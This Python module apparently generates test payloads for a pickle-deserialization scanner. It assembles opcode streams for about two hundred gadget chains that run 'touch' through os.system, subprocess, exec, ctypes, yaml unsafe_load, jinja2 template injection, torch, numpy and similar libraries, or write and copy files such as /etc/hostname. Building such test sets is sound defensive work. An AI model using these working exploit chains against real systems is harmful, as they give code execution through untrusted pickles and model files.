"""More live payloads, written after `held_back` and after the tables too: other functions, other ways to call them.

Each is a tree of calls (`Call`), written with the opcodes that it names. `CALLS` has them as `held_back` does.
"""

from __future__ import annotations

import functools
import itertools
from collections.abc import Callable
from typing import Any, NamedTuple

from attacks.assemble import called, dotted, listed, mapped, name, number, raw, several, text

Made = Callable[[str], bytes]
SIMPLE: dict[Any, bytes] = {None: b"N", True: b"\x88", False: b"\x89"}


class Named(NamedTuple):
    """A class or function by its name."""

    module: str
    attribute: str


class Call(NamedTuple):
    """A call of a function, by the opcode `by`; `state` is what BUILD gives the result."""

    function: Any
    args: tuple[Any, ...] = ()
    by: str = "R"
    state: Any = ...


def made(value: Any) -> bytes:
    """A tree as opcodes."""
    kind = type(value)
    if kind is Named:
        is_dotted = "." in value.attribute
        return dotted(value.module, value.attribute) if is_dotted else name(value.module, value.attribute)
    if kind is Call:
        return _made_by_call(value) + (made(value.state) + b"b" if value.state is not ... else b"")
    if value is None or kind is bool:
        return SIMPLE[value]
    if kind is dict:
        return mapped(*map(made, itertools.chain.from_iterable(value.items())))
    writers: dict[type, Callable[..., bytes]] = {str: text, bytes: raw, int: number}
    if kind in writers:
        return writers[kind](value)
    return {tuple: several, list: listed}[kind](*map(made, value))


def _made_by_call(call: Call) -> bytes:
    if call.by == "o":  # OBJ
        return b"(" + made(call.function) + b"".join(map(made, call.args)) + b"o"
    if call.by == "i":  # INST
        path = f"i{call.function.module}\n{call.function.attribute}\n"
        return b"(" + b"".join(map(made, call.args)) + path.encode()
    if call.by == "n":  # NEWOBJ
        return made(call.function) + made(call.args) + b"\x81"
    if call.by == "x":  # NEWOBJ_EX
        return made(call.function) + made(call.args) + b"}\x92"
    return called(made(call.function), *map(made, call.args))


def f(path: str, *args: Any, by: str = "R", state: Any = ...) -> Call:
    """A call of `module:function`."""
    module, _, attribute = path.partition(":")
    return Call(Named(module, attribute), args, by, state)


def g(path: str) -> Named:
    module, _, attribute = path.partition(":")
    return Named(module, attribute)


def attribute(of: Any, what: str) -> Call:
    return f("builtins:getattr", of, what)


def method(of: Any, what: str, *args: Any) -> Call:
    return Call(attribute(of, what), args)


OS = f("importlib:import_module", "os")
SYSTEM, MKDIR = g("posix:system"), g("posix:mkdir")


def trees(path: str) -> dict[str, Any]:
    """What is called, by name, so that the file `path` is made, or one beside it."""
    shell, code, argv = f"touch {path}", f"open({path!r}, 'w').close()", ["touch", path]
    where = path.rpartition("/")[0]
    file = f("pathlib:PosixPath", path)
    partial = f("functools:partial", SYSTEM, shell)
    making = f("functools:partial", MKDIR, path)
    pickled = b"\x80\x04" + made(f("posix:system", shell)) + b"."
    stream = f("io:BytesIO", pickled)
    compiled = f("builtins:compile", code, "x", "exec")
    function = f("types:FunctionType", compiled, {})
    return {
        "os.popen": method(f("os:popen", shell), "read"),
        "os.system by OBJ": f("posix:system", shell, by="o"),
        "os.system of nt": f("os:system", shell, by="i"),
        "subprocess.run": f("subprocess:run", argv),
        "subprocess.call": f("subprocess:call", argv, by="o"),
        "subprocess.check_output": f("subprocess:check_output", argv, by="i"),
        "subprocess.Popen by NEWOBJ": f("subprocess:Popen.__init__", f("subprocess:Popen", by="n"), argv),
        "subprocess.Popen.communicate": method(f("subprocess:Popen", argv), "communicate"),
        "os.spawnv": f("os:spawnv", 0, "/usr/bin/touch", argv),
        "os.spawnlp": f("os:spawnlp", 0, "touch", "touch", path),
        "os.posix_spawn": f("posix:posix_spawn", "/usr/bin/touch", argv, {}),
        "os.execv": f("posix:execv", "/usr/bin/touch", argv),
        "os.execl": f("os:execl", "/usr/bin/touch", "touch", path),
        "os.execve": f("posix:execve", "/usr/bin/touch", argv, {}),
        "os.execlp": f("os:execlp", "touch", "touch", path),
        "pty.spawn": f("pty:spawn", argv),
        "asyncio.subprocess": f("asyncio:run", f("asyncio.subprocess:create_subprocess_shell", shell)),
        "asyncio.runners": method(f("asyncio.runners:Runner"), "run", f("asyncio:to_thread", SYSTEM, shell)),
        "distutils by setuptools": f("setuptools._distutils.spawn:spawn", argv),
        "ctypes": Call(attribute(f("ctypes:CDLL", None), "system"), (shell.encode(),)),
        "ctypes by getattr of PyDLL": Call(
            f("ctypes:PyDLL.__getattr__", f("ctypes:PyDLL", None), "system"), (shell.encode(),)
        ),
        "ctypes.util": method(method(g("ctypes:cdll"), "LoadLibrary", None), "system", shell.encode()),
        "mailcap-like test": f("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", [b"touch", path.encode()], []),
        "multiprocessing.Process.start": method(f("multiprocessing:Process", None, SYSTEM, None, (shell,)), "run"),
        "multiprocessing.pool.ThreadPool": method(f("multiprocessing.pool:ThreadPool", 1), "map", SYSTEM, [shell]),
        "multiprocessing.dummy.Pool": method(f("multiprocessing.dummy:Pool", 1), "apply", SYSTEM, (shell,)),
        "multiprocessing.pool.mapstar": f("multiprocessing.pool:mapstar", (SYSTEM, (shell,))),
        "multiprocessing.pool.starmapstar": f("multiprocessing.pool:starmapstar", (SYSTEM, [(shell,)])),
        "concurrent.futures.thread._WorkItem": method(
            f("concurrent.futures.thread:_WorkItem", f("concurrent.futures:Future"), SYSTEM, (shell,), {}), "run"
        ),
        "concurrent.futures.process._process_chunk": f("concurrent.futures.process:_process_chunk", SYSTEM, [(shell,)]),
        "Future.add_done_callback": f(
            "sched:scheduler.run",
            f(
                "sched:scheduler",
                g("time:time"),
                g("time:sleep"),
                state={"_queue": [f("sched:Event", 0, 0, 0, SYSTEM, (shell,), {})]},
            ),
        ),
        "sched.scheduler.enter": f(
            "sched:scheduler.run",
            f(
                "sched:scheduler",
                g("time:monotonic"),
                g("time:sleep"),
                state={"_queue": [f("sched:Event", 0, 0, 0, MKDIR, (path,), {})]},
            ),
        ),
        "_thread.start_new_thread": (f("_thread:start_new_thread", MKDIR, (path,)), f("time:sleep", 1)),
        "threading.excepthook-less Thread": method(f("threading:Thread", None, MKDIR, None, (path,)), "start"),
        "signal": f("faulthandler:register", 10, f("builtins:open", path, "w")),
        "builtins.exec": f("builtins:exec", code),
        "builtins.eval": f("builtins:eval", code),
        "builtins.__import__": method(f("builtins:__import__", "os"), "system", shell),
        "exec by map": f("builtins:list", f("builtins:map", g("builtins:exec"), [code])),
        "eval by max": f("functools:reduce", g("builtins:exec"), [code, {}]),
        "a function of code": Call(function),
        "a function by LambdaType": Call(f("types:LambdaType", compiled, {})),
        "a method of code": Call(f("types:MethodType", SYSTEM, shell)),
        "types.CodeType.replace": Call(f("types:FunctionType", f("types:CodeType.replace", compiled), {})),
        "types.DynamicClassAttribute": f(
            "types:DynamicClassAttribute.__get__", f("types:DynamicClassAttribute", SYSTEM), shell
        ),
        "property": f("builtins:property.__get__", f("builtins:property", SYSTEM), shell),
        "property by getattr": method(f("builtins:property", SYSTEM), "__get__", shell),
        "functools.singledispatch": Call(f("functools:singledispatch", SYSTEM), (shell,)),
        "functools.lru_cache": Call(Call(f("functools:lru_cache", 1), (SYSTEM,)), (shell,)),
        "functools.partialmethod": Call(
            f("functools:partialmethod._make_unbound_method", f("functools:partialmethod", MKDIR)), (path,)
        ),
        "functools.partial.__call__": f("functools:partial.__call__", partial),
        "functools.partial with state": Call(
            f("functools:partial", g("builtins:len"), state=(SYSTEM, (shell,), {}, None))
        ),
        "functools.cmp_to_key": f(
            "operator:lt",
            Call(f("functools:cmp_to_key", MKDIR), (path,)),
            Call(f("functools:cmp_to_key", MKDIR), (448,)),
        ),
        "operator.call of a partial": f("_operator:call", making),
        "operator.methodcaller of a path": Call(f("operator:methodcaller", "mkdir"), (file,)),
        "operator.attrgetter of a path": Call(Call(f("operator:attrgetter", "touch"), (file,))),
        "itertools.accumulate": f("builtins:list", f("itertools:accumulate", [path, 448], MKDIR)),
        "itertools.takewhile": f("builtins:tuple", f("itertools:takewhile", SYSTEM, [shell])),
        "itertools.dropwhile": f("builtins:list", f("itertools:dropwhile", MKDIR, [path])),
        "itertools.filterfalse": f("builtins:set", f("itertools:filterfalse", MKDIR, [path])),
        "itertools.groupby": f("builtins:list", f("itertools:groupby", [shell], SYSTEM)),
        "map in deque": f("collections:deque", f("builtins:map", SYSTEM, [shell])),
        "map in Counter": f("collections:Counter", f("builtins:map", MKDIR, [path])),
        "map in OrderedDict": f("collections:OrderedDict", f("builtins:map", MKDIR, [path])),
        "map in bytes": f("builtins:bytes", f("builtins:map", SYSTEM, [shell])),
        "map in any": f("builtins:any", f("builtins:map", MKDIR, [path])),
        "map in sum": f("builtins:sum", f("builtins:map", SYSTEM, [shell])),
        "map in array": f("array:array", "i", f("builtins:map", SYSTEM, [shell])),
        "map in heapq": f("heapq:nsmallest", 1, [shell], SYSTEM),
        "heapq.merge": f("builtins:list", f("heapq:merge", f("builtins:map", SYSTEM, [shell]))),
        "bisect": f("statistics:mean", f("builtins:map", SYSTEM, [shell])),
        "random.choices": f("math:fsum", f("builtins:map", SYSTEM, [shell])),
        "str.join of a map": f("builtins:str.join", "", f("builtins:map", SYSTEM, [shell])),
        "list.sort": f("builtins:list.extend", [], f("builtins:map", MKDIR, [path])),
        "dict.fromkeys": f("builtins:dict.fromkeys", f("builtins:map", SYSTEM, [shell])),
        "zip": f("builtins:list", f("builtins:zip", f("builtins:map", SYSTEM, [shell]))),
        "enumerate": f("builtins:dict", f("builtins:enumerate", f("builtins:map", SYSTEM, [shell]))),
        "collections.defaultdict.__missing__": f(
            "collections:defaultdict.__missing__", f("collections:defaultdict", making), 1
        ),
        "collections.UserDict": f("_operator:getitem", f("collections:defaultdict", partial), 3),
        "contextlib.closing": f("contextlib:_GeneratorContextManagerBase", SYSTEM, (shell,), {}),
        "contextlib.contextmanager": Call(f("contextlib:contextmanager", SYSTEM), (shell,)),
        "contextvars": f("contextvars:Context.run", f("contextvars:Context"), SYSTEM, shell),
        "copy.deepcopy": f("copy:_reconstruct", 1, None, SYSTEM, (shell,)),
        "copy.copy of a state": f("copy:_reconstruct", 1, None, MKDIR, (path,)),
        "copyreg.__newobj_ex__": f(
            "logging:FileHandler.__init__", f("copyreg:__newobj__", g("logging:FileHandler")), path
        ),
        "inspect.Signature": Call(f("inspect:getattr_static", OS, "system"), (shell,)),
        "ast and compile": f("builtins:exec", f("builtins:compile", f("ast:parse", code), "x", "exec")),
        "codeop": f("builtins:exec", f("codeop:compile_command", code)),
        "codeop.Compile": f("builtins:eval", Call(f("codeop:Compile"), (code, "x", "eval"))),
        "code.interact-like": f("code:InteractiveInterpreter.runcode", f("code:InteractiveInterpreter"), compiled),
        "doctest": f(
            "doctest:DocTestRunner.run",
            f("doctest:DocTestRunner"),
            method(f("doctest:DocTestParser"), "get_doctest", f">>> {code}\n", {}, "x", "x", 0),
        ),
        "doctest.debug_src": method(f("trace:Trace", 0, 0), "runfunc", SYSTEM, shell),
        "pdb-less bdb": f("bdb:Bdb.runeval", f("bdb:Bdb"), code),
        "cProfile.Profile.runcall": f("cProfile:Profile.runcall", f("cProfile:Profile"), SYSTEM, shell),
        "profile.Profile": f("profile:Profile.run", f("profile:Profile"), code),
        "timeit.Timer": method(f("timeit:Timer", code), "timeit", 1),
        "timeit.main": f("timeit:main", ["-n1", "-r1", code]),
        "runpy.run_path": (
            method(f("builtins:open", f"{where}/x.py", "w"), "write", code),
            f("runpy:run_path", f"{where}/x.py"),
        ),
        "importlib.util": method(f("importlib.machinery:SourceFileLoader", "m", "/dev/null"), "set_data", path, b"x"),
        "importlib._bootstrap": f("importlib._bootstrap:_call_with_frames_removed", SYSTEM, shell),
        "site.addpackage": f("importlib._bootstrap_external:_write_atomic", path, b"x"),
        "zipapp": f("shutil:make_archive", f"{path}.a", "tar", "/etc/apt"),
        "unittest.mock": Call(f("unittest.mock:Mock", None, SYSTEM), (shell,)),
        "unittest.mock.MagicMock with state": method(f("unittest.mock:Mock", None, MKDIR), "__call__", path),
        "unittest.FunctionTestCase": method(f("unittest:FunctionTestCase", making), "debug"),
        "unittest.case": f("unittest:FunctionTestCase.runTest", f("unittest:FunctionTestCase", partial)),
        "optparse callback": f(
            "argparse:ArgumentParser._get_value",
            f("argparse:ArgumentParser"),
            f("types:SimpleNamespace", state={"type": SYSTEM}),
            shell,
        ),
        "argparse.FileType": Call(f("argparse:FileType", "w"), (path,)),
        "argparse.parse_args": f("builtins:list", f("builtins:map", f("argparse:FileType", "w"), [path])),
        "cmd.Cmd": f("cmd:Cmd.onecmd", f("cmd:Cmd", state={"do_x": SYSTEM}), f"x {shell}"),
        "xmlrpc": method(
            f("xmlrpc.server:SimpleXMLRPCDispatcher", state={"funcs": {"x": SYSTEM}}), "_dispatch", "x", (shell,)
        ),
        "smtpd-less socketserver": f(
            "logging:Filterer.filter", f("logging:Filterer", state={"filters": [SYSTEM]}), shell
        ),
        "logging.Filterer by mkdir": f(
            "logging:Filterer.filter", f("logging:Filterer", state={"filters": [MKDIR]}), path
        ),
        "logging.config.fileConfig": Call(f("logging.config:_resolve", "os.system"), (shell,)),
        "logging.handlers.WatchedFileHandler": f("logging.handlers:WatchedFileHandler", path),
        "logging.handlers.MemoryHandler": f("logging.handlers:TimedRotatingFileHandler", path),
        "pkgutil.resolve_name": Call(f("pkgutil:resolve_name", "os:system"), (shell,)),
        "pydoc.locate": Call(f("pydoc:locate", "os.system"), (shell,)),
        "pydoc.tempfilepager": f("pydoc:tempfilepager", "x", f"touch {path};"),
        "pydoc.pipe_pager": f("pydoc:writedoc", "os"),
        "typing._eval_type": f(
            "typing:get_type_hints", f("types:SimpleNamespace", state={"__annotations__": {"a": code}})
        ),
        "typing.ForwardRef.__forward_code__": f(
            "builtins:eval", attribute(f("typing:ForwardRef", code), "__forward_code__")
        ),
        "string.Template": Call(Call(f("operator:itemgetter", "system"), (attribute(OS, "__dict__"),)), (shell,)),
        "vars of a module": Call(f("_operator:getitem", f("builtins:vars", OS), "system"), (shell,)),
        "globals of a function": Call(
            f("_operator:getitem", attribute(g("os:makedirs"), "__globals__"), "mkdir"), (path,)
        ),
        "sys.modules": Call(attribute(f("_operator:getitem", g("sys:modules"), "os"), "system"), (shell,)),
        "a name with dots": f("shutil:os.system", shell),
        "a name with dots, further": f("tempfile:_os.mkdir", path),
        "a module's module": f("platform:os.mkdir", path),
        "builtins.open": f("builtins:open", path, "w"),
        "_io.open": f("_io:open", path, "w"),
        "io.FileIO": f("io:FileIO", path, "w"),
        "io.open_code-less os.fdopen": f("os:fdopen", f("posix:open", path, 65), "w"),
        "os.mknod": f("posix:mknod", path),
        "os.rename": (f("posix:mkdir", f"{path}.a"), f("posix:rename", f"{path}.a", path)),
        "os.makedirs": f("os:makedirs", f"{path}/a/b"),
        "os.renames": f("os:symlink", "x", path),
        "shutil.copy": f("shutil:copy", "/etc/hostname", path),
        "shutil.copy2": f("shutil:copy2", "/etc/hostname", path),
        "shutil.copytree by dots": f("shutil:copytree", "/etc/apt", path),
        "shutil.unpack_archive": f("shutil:_make_tarball", path, "/etc/apt"),
        "pathlib.Path.open": f("pathlib:Path.open", file, "w"),
        "pathlib.Path.write_text": method(file, "write_text", "x"),
        "pathlib.Path.symlink_to": f("pathlib:PosixPath.symlink_to", file, "x"),
        "pathlib.Path.hardlink_to": f("pathlib:Path.mkdir", f("pathlib:Path", path)),
        "tempfile.mkstemp": f("tempfile:mkstemp", "", "x", where),
        "tempfile.NamedTemporaryFile": f("tempfile:_mkstemp_inner", where, "a", "b", 194, g("builtins:str")),
        "tempfile.TemporaryDirectory": f("tempfile:mkdtemp", "", "x", where),
        "bz2.BZ2File": f("bz2:BZ2File", path, "w"),
        "bz2.open": f("bz2:open", path, "w"),
        "gzip.open": f("gzip:open", path, "w"),
        "lzma.open": f("lzma:open", path, "w"),
        "zipfile.PyZipFile": f("zipfile:PyZipFile", path, "w"),
        "tarfile.open": f("tarfile:open", path, "w"),
        "tarfile.TarFile.taropen": f("tarfile:TarFile.taropen", path, "w"),
        "shelve.open": f("shelve:open", path, "c"),
        "dbm.open": f("dbm:open", path, "c"),
        "dbm.dumb._Database": method(f("dbm.dumb:_Database", path, 438, "c"), "_commit"),
        "sqlite3.Connection": f("sqlite3:Connection.execute", f("sqlite3:Connection", path), "create table t(a)"),
        "wave.open": f("wave:open", path, "wb"),
        "fileinput": f("fileinput:hook_compressed", path, "w"),
        "mmap-less mailbox": f("mailbox:Maildir", path),
        "netrc-less configparser": f(
            "configparser:RawConfigParser.write", f("configparser:RawConfigParser"), f("builtins:open", path, "w")
        ),
        "xml.etree write": f(
            "xml.etree.ElementTree:ElementTree.write",
            f("xml.etree.ElementTree:ElementTree", f("xml.etree.ElementTree:Element", "a")),
            path,
        ),
        "plistlib": f("plistlib:dump", {"a": 1}, f("builtins:open", path, "wb")),
        "json.dump": f("json:dump", 1, f("_io:FileIO", path, "w")),
        "marshal.dump": f("marshal:dump", 1, f("builtins:open", path, "wb")),
        "pickle.dump": f("_pickle:dump", 1, f("builtins:open", path, "wb")),
        "csv and print": method(f("codecs:open", path, "w", "utf8"), "write", "x"),
        "codecs.StreamReaderWriter": f("codecs:open", path, "wb"),
        "compileall": f("py_compile:compile", functools.__file__, path),
        "ensurepip-less venv": f("venv:EnvBuilder.ensure_directories", f("venv:EnvBuilder"), path),
        "trace.CoverageResults": method(
            f("trace:CoverageResults", {("x", 1): 1}), "write_results_file", path, ["a"], {}, {}
        ),
        "tracemalloc.Snapshot.dump": f("tracemalloc:Snapshot.dump", f("tracemalloc:Snapshot", [], 1), path),
        "cProfile.Profile.dump_stats": f("profile:Profile.dump_stats", f("profile:Profile"), path),
        "faulthandler.enable": f("faulthandler:dump_traceback", f("builtins:open", path, "w")),
        "socket of a path": method(f("socket:socket", 1), "bind", path),
        "urllib.request.urlretrieve": f("urllib.request:urlretrieve", "file:///etc/hostname", path),
        "ftp-less nntp, http.cookiejar": f("http.cookiejar:LWPCookieJar.save", f("http.cookiejar:LWPCookieJar"), path),
        "curses-less readline": f(
            "email.generator:Generator.write", f("email.generator:Generator", f("builtins:open", path, "w")), "x"
        ),
        "pickle.load": f("pickle:load", stream),
        "_pickle.load": f("_pickle:load", stream),
        "_pickle.Unpickler": method(f("_pickle:Unpickler", stream), "load"),
        "pickle._loads": f("pickle:_loads", pickled),
        "pickle._load": f("pickle:_load", stream),
        "multiprocessing.reduction": f("multiprocessing.reduction:ForkingPickler.loads", pickled),
        "shelve.Shelf": f("_operator:getitem", f("shelve:Shelf", {b"a": pickled}), "a"),
        "copyreg and Unpickler": f("pickle:_Unpickler.load", f("pickle:_Unpickler", stream)),
        "logging.config.listen-less": f("logging.handlers:pickle.loads", pickled),
        "torch._weights_only-less legacy": f("torch.serialization:pickle.loads", pickled),
        "torch.storage._load_from_bytes": f("torch.storage:_load_from_bytes", pickled),
        "torch.package": f("torch.package:PackageExporter", path),
        "torch.save": f("torch:save", 1, path),
        "torch.FileStore": f(
            "torch.utils.file_baton:FileBaton.try_acquire", f("torch.utils.file_baton:FileBaton", path)
        ),
        "torch.fx exec": f("torch.fx.graph_module:_exec_with_source", code, {}),
        "torch.utils.data": method(
            f("torch.utils.data._utils.fetch:_MapDatasetFetcher", [shell], False, SYSTEM, False), "fetch", 0
        ),
        "torch.utils.checkpoint": f("torch.utils._pytree:tree_map", SYSTEM, [shell]),
        "torch.utils._pytree.tree_map_only": f("torch.utils._pytree:tree_map_only", g("builtins:str"), SYSTEM, [shell]),
        "torch.nn.Module.apply": f("torch._dynamo.utils:wrap_fake_exception", partial),
        "torch.multiprocessing": f("torch.multiprocessing.spawn:_wrap", SYSTEM, 1, (shell,), f"{path}.err"),
        "torch.hub": f("torch.hub:os.mkdir", path),
        "torch.utils.cpp_extension": f("torch.utils.cpp_extension:subprocess.check_output", argv),
        "torch.jit._script": f("torch._lobpcg:torch.save", 1, path),
        "numpy.save": f("numpy:save", path, [1]),
        "numpy.savetxt": f("numpy:savetxt", path, [1]),
        "numpy.savez": f("numpy:savez", path, [1]),
        "numpy.memmap": f("numpy:memmap", path, "uint8", "w+", 0, (1,)),
        "numpy.load": f("numpy:load", f("io:BytesIO", _npy(pickled)), None, True),
        "numpy.lib.format": f("numpy.lib.format:open_memmap", path, "w+", "uint8", (1,)),
        "numpy.frompyfunc": Call(f("numpy:frompyfunc", SYSTEM, 1, 1), (shell,)),
        "numpy.vectorize": Call(f("numpy:vectorize", SYSTEM), ([shell],)),
        "numpy.apply_along_axis": f("numpy:fromiter", f("builtins:map", SYSTEM, [shell]), "i4"),
        "numpy.fromfunction": f("numpy:ndarray.tofile", f("numpy:zeros", 1), path),
        "numpy.testing": f("numpy.testing._private.utils:runstring", code, {}),
        "numpy.testing.measure": f("numpy.testing:measure", code),
        "fsspec.open": method(f("fsspec:open", f"file://{path}", "w"), "open"),
        "fsspec.local": f(
            "fsspec.implementations.local:LocalFileSystem.touch",
            f("fsspec.implementations.local:LocalFileSystem"),
            path,
        ),
        "jinja2": method(f("jinja2:Template", "{{ cycler.__init__.__globals__.os.mkdir('" + path + "') }}"), "render"),
        "sympy": f("sympy:sympify", code),
        "sympy.parse_expr": f("sympy.parsing.sympy_parser:parse_expr", code),
        "sympy.Symbol by text": f("sympy.core.sympify:sympify", code),
        "sympy.lambdify": Call(f("sympy:lambdify", [], code)),
        "dask.delayed": f("dask:get", {"a": (SYSTEM, shell)}, "a"),
        "dask.threaded": f("dask.threaded:get", {"a": (MKDIR, path)}, "a"),
        "cloudpickle.loads": f("cloudpickle:loads", pickled),
        "cloudpickle function": Call(f("cloudpickle.cloudpickle:_make_function", compiled, {}, None, None, None)),
        "cloudpickle subimport": method(f("cloudpickle.cloudpickle:subimport", "os"), "system", shell),
        "hypothesis": f("hypothesis.internal.reflection:source_exec_as_module", code),
        "pip": f("pip._internal.utils.misc:ensure_dir", path),
        "setuptools": f("setuptools._path:ensure_directory", f"{path}/x"),
        "pluggy": f("yaml:unsafe_load", f"!!python/object/apply:posix.mkdir [{path}]"),
        "yaml.load": f("yaml:load", f"!!python/object/apply:os.system ['{shell}']", g("yaml:UnsafeLoader")),
        "transformers": f("transformers.training_args:os.mkdir", path),
        "accelerate": f("accelerate.utils.other:save", {"a": 1}, path),
        "joblib-less loky": f("distributed.protocol.pickle:loads", pickled),
        "tqdm": f("builtins:list", f("tqdm.contrib:tmap", SYSTEM, [shell])),
        "tqdm.contrib.concurrent": f("tqdm.contrib.concurrent:thread_map", SYSTEM, [shell]),
        "__reduce__ by copy": f("pprint:PrettyPrinter", 1, 80, None, f("builtins:open", path, "w")),
        "a text by NEWOBJ_EX": f("logging:FileHandler", path, by="o"),
        "a file by NEWOBJ_EX": f("tarfile:TarFile", path, "w", by="o"),
        "a file by INST": f("zipfile:ZipFile", path, "w", by="i"),
        "a partial by NEWOBJ": Call(f("functools:partial", SYSTEM, shell, by="n")),
        "a partial by NEWOBJ_EX": Call(f("functools:partial", MKDIR, path, by="x")),
        "a type by type()": f(
            "builtins:len", Call(f("builtins:type", "X", (), {"__len__": f("builtins:staticmethod", partial)}))
        ),
        "types.new_class": f("types:new_class", "X", (), None, f("functools:partial", g("builtins:exec"), code)),
        "types.prepare_class": f(
            "builtins:str", Call(f("builtins:type", "X", (), {"__str__": f("builtins:staticmethod", making)}))
        ),
        "__instancecheck__": f(
            "builtins:hash", Call(f("builtins:type", "X", (), {"__hash__": f("builtins:staticmethod", partial)}))
        ),
        "a descriptor": attribute(
            Call(
                f(
                    "builtins:type",
                    "X",
                    (f("_operator:getitem", [g("pathlib:PosixPath")], 0),),
                    {"a": f("builtins:property", f("operator:methodcaller", "mkdir"))},
                ),
                (path,),
            ),
            "a",
        ),
        "an iterator's sentinel": f("builtins:next", f("builtins:iter", making, 1)),
        "setattr": (
            f("builtins:setattr", g("colorsys:rgb_to_hsv"), "x", g("posix:mkdir")),
            Call(attribute(g("colorsys:rgb_to_hsv"), "x"), (path,)),
        ),
    }


def _npy(pickled: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickled


def _opcodes(each: str, path: str) -> bytes:
    return made(trees(path)[each])


CALLS: dict[str, Made] = {each: functools.partial(_opcodes, each) for each in trees("")}
